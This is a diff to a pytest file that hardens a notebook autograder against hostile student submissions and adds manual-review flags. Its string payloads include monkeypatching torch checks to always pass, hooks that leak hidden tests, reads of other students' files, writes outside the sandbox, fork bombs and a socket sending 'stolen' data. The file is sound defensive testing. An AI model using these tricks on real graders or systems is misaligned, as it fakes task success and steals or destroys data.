@@ -17,14 +17,23 @@ from nbgrader.api import Gradebook
 from grader import batch
 from grader.demo import simulate
 from grader.course import Course, GradeOptions
+from html_text import page_text
+
+pytestmark = [pytest.mark.slow, pytest.mark.sandbox]
 
 A, NB = "a1_backprop", "backprop"
 RIGHT_MUL = "return grad_output * y, grad_output * x"
 HIDDEN_ONLY = "random_inputs((9,), (9,), seed=32)"  # text that exists only in the hidden tests
 
 
+REVIEW = {"manual_review", "code_review"}  # the answer uses constructs an honest one never needs
+
+
 def attacks(course, port):
-    """{student: (Mul answer source, expected total, expected flags)}."""
+    """{student: (Mul answer source, expected points, expected flags)}.
+
+    Points are the gradebook's per-test points added up; a row under review has no total.
+    """
     correct = simulate.solution_answers(course.solutions / A / f"{NB}.ipynb")["mul"]
     buggy = simulate.replace_line(correct, RIGHT_MUL, simulate.SOURCE_MUL_BACKWARD)
     gradebook, solution = course.gradebook_file, course.solutions / A / f"{NB}.ipynb"
@@ -36,24 +45,21 @@ def attacks(course, port):
         "honest_1": (correct, 12, set()),
         "honest_2": (correct, 12, set()),
         "hide_traceback": (buggy + "\nget_ipython().showtraceback = lambda *a, **k: None\n"
-                           "raise RuntimeError('hidden')", 4, set()),
+                           "raise RuntimeError('hidden')", 4, REVIEW),
         "hide_traceback_class": (buggy + "\nfrom IPython.core.interactiveshell import InteractiveShell\n"
-                                 "InteractiveShell.showtraceback = lambda *a, **k: None", 4, set()),
+                                 "InteractiveShell.showtraceback = lambda *a, **k: None", 4, REVIEW),
         "custom_exc": (buggy + "\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
-                       4, set()),
+                       4, REVIEW),
         "patch_torch_checks": (buggy + "\ntorch.allclose = lambda *a, **k: True\n"
                                "torch.autograd.gradcheck = lambda *a, **k: True\n"
-                               "torch.testing.assert_close = lambda *a, **k: None", 4,
-                               {"possible_tampering"}),
+                               "torch.testing.assert_close = lambda *a, **k: None", 4, REVIEW | {"possible_tampering"}),
         "patch_tensor_eq": (buggy + "\ntorch.Tensor.__eq__ = lambda *a: True\n"
-                            "torch.equal = lambda *a, **k: True", 4, set()),
-        "rebind_test_helper": (buggy + "\ncheck_function = lambda *a, **k: None", 4,
-                               {"possible_tampering"}),
+                            "torch.equal = lambda *a, **k: True", 4, REVIEW),
+        "rebind_test_helper": (buggy + "\ncheck_function = lambda *a, **k: None", 4, {"manual_review", "possible_tampering"}),
         "sys_modules": (buggy + "\nimport sys, types\nfake = types.ModuleType('backprop_checks')\n"
                         "fake.check_function = lambda *a, **k: None\nfake.random_inputs = lambda *a, **k: []\n"
                         "sys.modules['backprop_checks'] = fake\n"
-                        "from backprop_checks import check_function, random_inputs", 4,
-                        {"possible_tampering"}),
+                        "from backprop_checks import check_function, random_inputs", 4, REVIEW | {"possible_tampering"}),
         "always_equal_object": ("class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
                                 + always_equal, 4, set()),
         "hard_coded_visible_inputs": (hard_coded, 4, set()),
@@ -62,34 +68,34 @@ def attacks(course, port):
                          f"glob.glob({str(course.submitted / '*' / A / '*.ipynb')!r}):\n"
                          "    try:\n        print(open(path, errors='replace').read())\n"
                          "    except Exception as error:\n        print('blocked:', type(error).__name__)",
-                         12, set()),
+                         12, REVIEW),
         "print_hidden_tests": (correct + "\nget_ipython().events.register("
-                               "'pre_run_cell', lambda info: print(info.raw_cell))", 12, set()),
+                               "'pre_run_cell', lambda info: print(info.raw_cell))", 12, REVIEW),
         "stash_hidden_tests": (correct + "\nseen = []\nip = get_ipython()\n"
                                "ip.events.register('pre_run_cell', lambda info: seen.append(info.raw_cell))\n"
                                "ip.events.register('post_run_cell', lambda result: print('\\n'.join(seen)))",
-                               12, set()),
+                               12, REVIEW),
         "read_own_notebook": (correct + "\nimport glob, os\nprint('cwd holds', sorted(os.listdir('.')))\n"
                               "for path in glob.glob('**/*.ipynb', recursive=True):\n"
-                              "    print(open(path).read())", 12, set()),
+                              "    print(open(path).read())", 12, REVIEW),
         "write_outside": (correct + "\nfor path in [" + repr(str(gradebook)) + ", "
                           + repr(str(outside)) + "]:\n    try:\n"
                           "        open(path, 'a').write('pwned')\n        print('WRITE-OK', path)\n"
                           "    except Exception as error:\n        print('blocked:', type(error).__name__)",
-                          12, set()),
-        "os_exit": (correct + "\nimport os\nos._exit(1)", 4, {"kernel_died"}),
-        "sys_exit": (correct + "\nimport sys\nsys.exit(0)", 12, set()),
-        "segfault": (correct + "\nimport ctypes\nctypes.string_at(0)", 4, {"kernel_died"}),
+                          12, REVIEW),
+        "os_exit": (correct + "\nimport os\nos._exit(1)", 4, REVIEW | {"kernel_died"}),
+        "sys_exit": (correct + "\nimport sys\nsys.exit(0)", 12, REVIEW),
+        "segfault": (correct + "\nimport ctypes\nctypes.string_at(0)", 4, REVIEW | {"kernel_died"}),
         "loop_ignoring_sigint": (correct + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
-                                 "while True:\n    pass", 4, {"timed_out"}),
+                                 "while True:\n    pass", 4, REVIEW | {"timed_out"}),
         "memory_bomb": (correct + "\ndef bomb():\n    blocks = []\n    while True:\n"
                         "        blocks.append(b'x' * 2**30)\nbomb()", 12, set()),
         "fork_bomb": (correct + "\nimport os\nwhile True:\n    try:\n        os.fork()\n"
-                      "    except OSError:\n        pass", 4, {"timed_out"}),
+                      "    except OSError:\n        pass", 4, REVIEW | {"timed_out"}),
         "huge_output": (correct + "\nprint('x' * 100_000_000)", 12, set()),
         "network": (correct + "\nimport socket\ntry:\n"
                     f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
-                    "    print('CONNECTED')\nexcept OSError as error:\n    print('blocked:', error)", 12, set()),
+                    "    print('CONNECTED')\nexcept OSError as error:\n    print('blocked:', error)", 12, REVIEW),
     }
 
 
@@ -144,13 +150,16 @@ def _rows(result):
 def test_each_attack_scores_what_its_honest_part_deserves(hostile, student):
     _, plan, result, _ = hostile
     row = _rows(result)[student]
-    _, total, flags = plan[student]
-    assert (row["total"], set(filter(None, row["flags"].split(";")))) == (total, flags), row["notes"]
+    _, points, flags = plan[student]
+    got = set(filter(None, row["flags"].split(";")))
+    assert (sum(row[test] for test in result.tests), got) == (points, flags), row["notes"]
+    assert row["total"] == (None if "manual_review" in flags else points)
 
 
 def test_the_batch_finished_with_every_student_in_the_gradebook(hostile):
     course, plan, result, _ = hostile
-    assert len(result.rows) == len(plan) and not result.manual_review
+    assert len(result.rows) == len(plan)
+    assert not {"honest_1", "honest_2"} & set(result.manual_review)
     with Gradebook(course.db_url, "backprop") as gb:
         assert {s.student_id for s in gb.assignment_submissions(A)} == set(plan)
 
@@ -170,10 +179,10 @@ def test_no_secret_reaches_outputs_or_feedback(hostile):
     printed = _outputs(course, "read_secrets")
     assert HIDDEN_ONLY not in printed and "blocked:" in printed and "SQLite format" not in printed
     assert "backprop.ipynb" not in _outputs(course, "read_own_notebook")
-    tamperer = (course.feedback / "patch_torch_checks" / A / f"{NB}.html").read_text()
+    tamperer = page_text(course.feedback / "patch_torch_checks" / A / f"{NB}.html")
     assert "verified by the grader on fresh inputs: failed" in tamperer
     for student in plan:
         page = course.feedback / student / A / f"{NB}.html"
         if page.exists():
-            html = page.read_text()
-            assert HIDDEN_ONLY not in html and "BEGIN HIDDEN TESTS" not in html, student
+            text = page_text(page)
+            assert HIDDEN_ONLY not in text and "BEGIN HIDDEN TESTS" not in text, student
